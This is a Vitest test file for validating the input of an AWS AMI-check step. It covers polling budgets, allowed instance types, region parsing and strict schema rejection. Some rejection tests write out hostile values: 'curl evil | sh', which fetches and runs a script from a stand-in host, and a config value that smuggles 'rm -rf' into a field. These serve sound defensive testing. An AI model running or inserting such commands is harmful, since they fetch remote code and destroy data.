import { describe, expect, it } from 'vitest';
import { DEFAULT_ALLOWED_INSTANCE_TYPES, loadConfig } from '../../functions/lib/config';
import {
  buildValidateAmiInput,
  POLL_BUDGET_SECONDS,
  VALIDATE_AMI_TIMEOUT_SECONDS,
  validateAmiInputSchema,
} from '../../functions/lib/validate-ami-input';

const request = { imageId: 'ami-0a1b2c3d4e5f67890', instanceType: 't3.micro' };

describe('buildValidateAmiInput', () => {
  it('is only the image, the instance type and the polling: nothing executable, no deployment setting', () => {
    const config = loadConfig({ STAGE: 'dev' });
    const input = buildValidateAmiInput(request, config.validation);
    expect(input).toEqual({
      imageId: request.imageId,
      instanceType: 't3.micro',
      polling: { intervalSeconds: 10, maxInstanceChecks: 30, maxAgentChecks: 60, maxCommandChecks: 90 },
    });
  });

  it('refuses an input with anything else in it (commands, user data, a profile, a subnet, a function)', () => {
    const input = buildValidateAmiInput(request, loadConfig({}).validation);
    for (const extra of [
      { commands: ['curl evil | sh'] },
      { userData: 'IyEvYmluL2Jhc2g=' },
      { instanceProfileName: 'admin' },
      { subnetId: 'subnet-0123456789abcdef0' },
      { evaluateFunction: 'someone-elses-function' },
    ]) {
      expect(validateAmiInputSchema.safeParse({ ...input, ...extra }).success, JSON.stringify(extra)).toBe(
        false,
      );
    }
    expect(validateAmiInputSchema.safeParse({ ...input, polling: { ...input.polling, x: 1 } }).success).toBe(
      false,
    );
  });

  it('keeps the polling budgets inside the machine timeout whatever the interval', () => {
    const total = POLL_BUDGET_SECONDS.instance + POLL_BUDGET_SECONDS.agent + POLL_BUDGET_SECONDS.command;
    expect(total).toBeLessThan(VALIDATE_AMI_TIMEOUT_SECONDS);
    for (const interval of [5, 7, 30, 60]) {
      const config = loadConfig({ VALIDATION_POLL_INTERVAL_SECONDS: String(interval) });
      const { polling } = buildValidateAmiInput(request, config.validation);
      const worst =
        (polling.maxInstanceChecks + polling.maxAgentChecks + polling.maxCommandChecks) *
        Math.max(1, interval);
      expect(worst).toBeLessThanOrEqual(total + 3 * interval);
    }
  });

  it('refuses a poll interval under 5 seconds, and takes any well-formed region Lambda gives it', () => {
    expect(() => loadConfig({ VALIDATION_POLL_INTERVAL_SECONDS: '0' })).toThrow(
      /VALIDATION_POLL_INTERVAL_SECONDS/,
    );
    expect(loadConfig({ AWS_REGION: 'ap-southeast-9' }).region).toBe('ap-southeast-9');
    expect(() => loadConfig({ AWS_REGION: 'not a region' })).toThrow(/AWS_REGION must be an AWS region/);
  });

  it('reads the allowed instance types (default: small general-purpose sizes) and the lifetime from config', () => {
    expect(loadConfig({}).validation.allowedInstanceTypes).toEqual([...DEFAULT_ALLOWED_INSTANCE_TYPES]);
    const config = loadConfig({
      ALLOWED_INSTANCE_TYPES: 't3.micro,m7g.large',
      VALIDATION_MAX_LIFETIME_MINUTES: '120',
    });
    expect(config.validation).toMatchObject({
      allowedInstanceTypes: ['t3.micro', 'm7g.large'],
      maxLifetimeMinutes: 120,
    });
    expect(() => loadConfig({ ALLOWED_INSTANCE_TYPES: 't3.micro,;rm -rf' })).toThrow(
      /ALLOWED_INSTANCE_TYPES/,
    );
    for (const type of DEFAULT_ALLOWED_INSTANCE_TYPES) expect(type).toMatch(/\.(micro|small|medium|large)$/);
  });

  it('refuses a malformed AMI id or instance type before anything starts', () => {
    const config = loadConfig({});
    expect(() => buildValidateAmiInput({ ...request, imageId: 'ami-xyz' }, config.validation)).toThrow();
    expect(() => buildValidateAmiInput({ ...request, instanceType: 'huge' }, config.validation)).toThrow();
  });
});
